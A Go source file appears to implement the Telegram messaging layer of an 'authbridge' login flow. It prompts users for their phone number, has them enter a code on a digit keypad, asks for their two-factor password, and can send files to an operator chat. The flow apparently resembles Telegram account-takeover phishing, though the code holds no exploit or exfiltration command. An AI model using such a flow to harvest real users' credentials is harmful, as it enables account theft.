package bot

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"sync"

	tele "gopkg.in/telebot.v4"

	"github.com/nvoloshin/authbridge/core/telegram/keyboard"
)

var errSinkUnbound = errors.New("bot: sink not bound to a running bot")

// SinkOptions configures the Telegram notification sink.
type SinkOptions struct {
	// ShowCodeURL is an optional link placed above the digit keypad.
	ShowCodeURL string
	CodeLength  int
}

// Sink delivers flow notifications over Telegram. It is bound to the bot
// instance once the runtime is up; the keypad message per user is remembered
// so digit presses edit in place instead of flooding the chat.
type Sink struct {
	opts   SinkOptions
	keypad *tele.ReplyMarkup

	mu   sync.Mutex
	bot  *tele.Bot
	pads map[int64]*tele.Message
}

// NewSink builds an unbound sink.
func NewSink(opts SinkOptions) *Sink {
	if opts.CodeLength <= 0 {
		opts.CodeLength = 5
	}
	return &Sink{
		opts:   opts,
		keypad: keypadMarkup(opts.ShowCodeURL),
		pads:   make(map[int64]*tele.Message),
	}
}

// Bind attaches the live bot instance. Called from the runtime start hook,
// before any update is handled.
func (s *Sink) Bind(b *tele.Bot) {
	s.mu.Lock()
	s.bot = b
	s.mu.Unlock()
}

func (s *Sink) instance() (*tele.Bot, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.bot == nil {
		return nil, errSinkUnbound
	}
	return s.bot, nil
}

// Notify sends plain text to a user or operator chat.
func (s *Sink) Notify(_ context.Context, chatID int64, text string) error {
	b, err := s.instance()
	if err != nil {
		return err
	}
	_, err = b.Send(tele.ChatID(chatID), text)
	return err
}

// NotifyDocument sends a file attachment with a caption.
func (s *Sink) NotifyDocument(_ context.Context, chatID int64, caption, filename string, data []byte) error {
	b, err := s.instance()
	if err != nil {
		return err
	}
	doc := &tele.Document{
		File:     tele.FromReader(bytes.NewReader(data)),
		FileName: filename,
		Caption:  caption,
	}
	_, err = b.Send(tele.ChatID(chatID), doc)
	return err
}

// PromptContact asks the user to share their phone number via a one-time
// reply keyboard.
func (s *Sink) PromptContact(_ context.Context, userID int64, text string) error {
	b, err := s.instance()
	if err != nil {
		return err
	}
	markup := &tele.ReplyMarkup{ResizeKeyboard: true, OneTimeKeyboard: true}
	markup.Reply(markup.Row(markup.Contact("📱 Share phone number")))
	_, err = b.Send(tele.ChatID(userID), text, markup)
	return err
}

// AckContact thanks the user and withdraws the contact keyboard.
func (s *Sink) AckContact(_ context.Context, userID int64, text string) error {
	b, err := s.instance()
	if err != nil {
		return err
	}
	_, err = b.Send(tele.ChatID(userID), text, keyboard.RemoveKeyboard())
	return err
}

// ShowCodePad presents a fresh keypad message and remembers it for edits.
func (s *Sink) ShowCodePad(_ context.Context, userID int64, prompt, entered string) error {
	b, err := s.instance()
	if err != nil {
		return err
	}
	msg, err := b.Send(tele.ChatID(userID), padText(prompt, entered, s.opts.CodeLength), s.keypad)
	if err != nil {
		return err
	}
	s.mu.Lock()
	s.pads[userID] = msg
	s.mu.Unlock()
	return nil
}

// UpdateCodePad re-renders the input line under the keypad. Falls back to a
// fresh message when the previous one is gone.
func (s *Sink) UpdateCodePad(ctx context.Context, userID int64, prompt, entered string) error {
	b, err := s.instance()
	if err != nil {
		return err
	}

	s.mu.Lock()
	pad := s.pads[userID]
	s.mu.Unlock()
	if pad == nil {
		return s.ShowCodePad(ctx, userID, prompt, entered)
	}

	edited, err := b.Edit(pad, padText(prompt, entered, s.opts.CodeLength), s.keypad)
	if err != nil {
		// An ignored press re-renders identical text; Telegram rejects that.
		if strings.Contains(err.Error(), "message is not modified") {
			return nil
		}
		return s.ShowCodePad(ctx, userID, prompt, entered)
	}
	s.mu.Lock()
	s.pads[userID] = edited
	s.mu.Unlock()
	return nil
}

// PromptPassword asks for the second-factor password with a forced reply.
func (s *Sink) PromptPassword(_ context.Context, userID int64, text string) error {
	b, err := s.instance()
	if err != nil {
		return err
	}
	_, err = b.Send(tele.ChatID(userID), text, keyboard.ForceReply())
	return err
}
